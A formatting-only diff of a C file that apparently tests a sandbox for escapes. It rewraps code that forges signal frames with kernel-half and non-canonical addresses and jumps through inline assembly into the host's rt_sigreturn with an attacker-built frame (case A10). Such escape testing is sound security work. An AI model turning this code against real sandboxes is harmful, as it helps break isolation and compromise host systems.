@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
-// Forged signal frames: the guest's own rt_sigreturn, which the sentry serves, and the host's, which code in the stub can
-// reach (the only host call that needs no order).
+// Forged signal frames: the guest's own rt_sigreturn, which the sentry serves, and the host's, which code in
+// the stub can reach (the only host call that needs no order).
 #include "escape.h"
 #include <stddef.h>
 
@@ -13,8 +13,19 @@ static void forge(int sig, siginfo_t *si, void *arg) {
     ucontext_t *uc = arg;
     greg_t *r = uc->uc_mcontext.gregs;
     uint32_t *fp = fp_words(uc);
-    const uint64_t odd[] = {0, 8, NOT_CANONICAL, KERNEL_HALF, ~0ul, VSYSCALL, TASK_SIZE, TASK_SIZE - 8, host.base, host.slots,
-                            host.slots + STUB_SLOT, host.gate, host.sigreturn};
+    const uint64_t odd[] = {0,
+                            8,
+                            NOT_CANONICAL,
+                            KERNEL_HALF,
+                            ~0ul,
+                            VSYSCALL,
+                            TASK_SIZE,
+                            TASK_SIZE - 8,
+                            host.base,
+                            host.slots,
+                            host.slots + STUB_SLOT,
+                            host.gate,
+                            host.sigreturn};
     const size_t nodd = sizeof odd / sizeof *odd;
     const uint16_t selectors[] = {0, 3, 8, 0x10, 0x18, 0x23, 0x2b, 0x33, 0x3b, 0xffff, 7, 0xf};
     unsigned v = variant;
@@ -101,8 +112,19 @@ static void with_stack(uint64_t sp) {
 }
 static void wild_stack(void) {
     static uint64_t noise[1024];
-    const uint64_t at[] = {0, 8, KERNEL_HALF, NOT_CANONICAL, host.base, host.slots, host.slots + STUB_SLOT - 512, ~7ul,
-                           TASK_SIZE - 64, VSYSCALL, (uint64_t)noise, (uint64_t)&noise[100], (uint64_t)noise + 4};
+    const uint64_t at[] = {0,
+                           8,
+                           KERNEL_HALF,
+                           NOT_CANONICAL,
+                           host.base,
+                           host.slots,
+                           host.slots + STUB_SLOT - 512,
+                           ~7ul,
+                           TASK_SIZE - 64,
+                           VSYSCALL,
+                           (uint64_t)noise,
+                           (uint64_t)&noise[100],
+                           (uint64_t)noise + 4};
     for (size_t i = 0; i < sizeof at / sizeof *at; i++)
         for (int round = 0; round < 4; round++) {
             for (size_t k = 0; k < 1024; k++)
@@ -117,7 +139,7 @@ static void wild_stack(void) {
         }
 }
 
-// ---- A10: the host's own rt_sigreturn, behind the stub's address, with a frame of the attacker's --------------------------
+// ---- A10: the host's own rt_sigreturn, behind the stub's address, with a frame of the attacker's ----------
 struct frame {
     ucontext_t uc;
     uint64_t fp[1024];
@@ -188,7 +210,10 @@ static void host_sigreturn(unsigned how) {
     }
     memcpy((char *)&frame.uc + offsetof(ucontext_t, uc_sigmask), &mask, 8);
     ualarm(300000, 0);
-    __asm__ volatile("mov %0, %%rsp\n\tmov $15, %%eax\n\tjmp *%1" : : "r"(&frame.uc), "r"(host.sigreturn) : "memory");
+    __asm__ volatile("mov %0, %%rsp\n\tmov $15, %%eax\n\tjmp *%1"
+                     :
+                     : "r"(&frame.uc), "r"(host.sigreturn)
+                     : "memory");
     __builtin_unreachable();
 }
 
